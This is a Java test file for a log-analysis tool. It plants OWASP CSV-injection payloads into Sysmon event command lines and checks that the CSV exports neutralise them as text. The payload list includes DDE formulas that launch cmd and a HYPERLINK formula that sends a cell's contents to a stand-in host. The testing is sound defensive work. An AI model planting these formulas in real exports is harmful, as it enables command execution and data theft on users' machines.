package dev.th.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Spreadsheet formulas planted in the command lines of the real Sysmon 1 events of the
 * PurpleSharp sample (JSON lines), ingested, then exported as CSV and read back by Apache Commons
 * CSV: every planted formula comes out as text (a leading {@code '}), every other cell unchanged.
 */
class HostileCsvTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    /**
     * OWASP's CSV-injection payloads, one per leading character (=, +, -, @, tab, CR); the store
     * keeps command lines trimmed, so the last two arrive as formulas starting with {@code =} (with
     * an escape sequence and a line break inside, for the table test).
     */
    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=cmd|' /C notepad'!A0\u001b[2J",
            "\r=1+1, \"quoted\"\nsecond line");

    @TempDir
    static Path dir;
    private static Path db;
    private static int planted;

    @BeforeAll
    static void plantAndIngest() throws IOException {
        Path zip = Path.of("..", "samples", "json", "purplesharp_pe_injection_createremotethread.zip");
        List<String> out = new ArrayList<>();
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(zip))) {
            ZipEntry e = in.getNextEntry();
            BufferedReader r = new BufferedReader(new InputStreamReader(in, StandardCharsets.UTF_8));
            String line;
            while ((line = r.readLine()) != null) {
                JsonNode event = JSON.readTree(line);
                if ("1".equals(event.path("EventID").asText()) && event.path("Channel").asText().contains("Sysmon")
                        && planted < HOSTILE.size()) {
                    ((ObjectNode) event).put("CommandLine", HOSTILE.get(planted++));
                    line = JSON.writeValueAsString(event);
                }
                out.add(line);
            }
        }
        assertEquals(HOSTILE.size(), planted, "the sample has fewer Sysmon 1 events than payloads");
        Path logs = Files.createDirectories(dir.resolve("logs"));
        Files.write(logs.resolve("hostile.json"), out, StandardCharsets.UTF_8);
        db = dir.resolve("db");
        Run r = Run.th("ingest", "--db", db.toString(), logs.toString());
        assertEquals(0, r.exit(), r::toString);
    }

    private static Run th(String... args) {
        List<String> all = new ArrayList<>(List.of(args));
        all.add("--db");
        all.add(db.toString());
        return Run.th(all.toArray(new String[0]));
    }

    @Test
    void plantedFormulasComeOutAsTextAndEverythingElseUnchanged() throws IOException {
        String[] q = {"machine", "WORKSTATION5", "executions", "--operation", "create", "--period", "all"};
        Run json = th(concat(q, "--format", "json"));
        assertEquals(0, json.exit(), json::toString);
        JsonNode rows = JSON.readTree(json.out());
        Run csv = th(concat(q, "--format", "csv"));
        assertEquals(0, csv.exit(), csv::toString);
        List<CSVRecord> records = ExportsTest.csv(csv.out());
        assertEquals(rows.size(), records.size());
        Set<String> seen = new HashSet<>();
        for (int i = 0; i < records.size(); i++) {
            String cmd = rows.get(i).get("CommandLine").asText();
            if (stored().contains(cmd)) {
                seen.add(cmd);
                assertEquals("'" + cmd, records.get(i).get("CommandLine"));
            }
            for (String column : AskStore.keys(rows.get(i))) {
                JsonNode v = rows.get(i).get(column);
                String text = v.isNull() ? "" : v.asText();
                assertEquals(ExportsTest.formula(text) ? "'" + text : text, records.get(i).get(column), column);
            }
        }
        assertEquals(stored(), seen, "every planted command line is in the answer");
    }

    @Test
    void timesketchCsvNeutralizesThemToo() throws IOException {
        Run csv = th("machine", "WORKSTATION5", "executions", "--operation", "create", "--period", "all", "--format", "timesketch-csv");
        assertEquals(0, csv.exit(), csv::toString);
        int found = 0;
        for (CSVRecord rec : ExportsTest.csv(csv.out())) {
            for (String cell : rec.values()) {
                assertTrue(!ExportsTest.formula(cell), "formula left in " + rec);
            }
            found += stored().contains(rec.get("CommandLine").substring(1)) ? 1 : 0;
        }
        assertEquals(HOSTILE.size(), found);
    }

    @Test
    void tablesShowControlCharactersEscaped() {
        Run t = th("machine", "WORKSTATION5", "executions", "--operation", "create", "--period", "all");
        assertEquals(0, t.exit(), t::toString);
        assertTrue(t.out().contains("=cmd|' /C notepad'!A0\\x1b[2J"), t::toString);
        assertTrue(t.out().contains("=1+1, \"quoted\"\\nsecond line"), t::toString);
        assertTrue(t.out().chars().noneMatch(c -> c == '\t' || c == '\r' || c == 0x1b), t::toString);
    }

    /** The payloads as the store keeps them (trimmed). */
    private static Set<String> stored() {
        Set<String> out = new HashSet<>();
        HOSTILE.forEach(h -> out.add(h.strip()));
        return out;
    }

    private static String[] concat(String[] a, String... b) {
        String[] out = new String[a.length + b.length];
        System.arraycopy(a, 0, out, 0, a.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
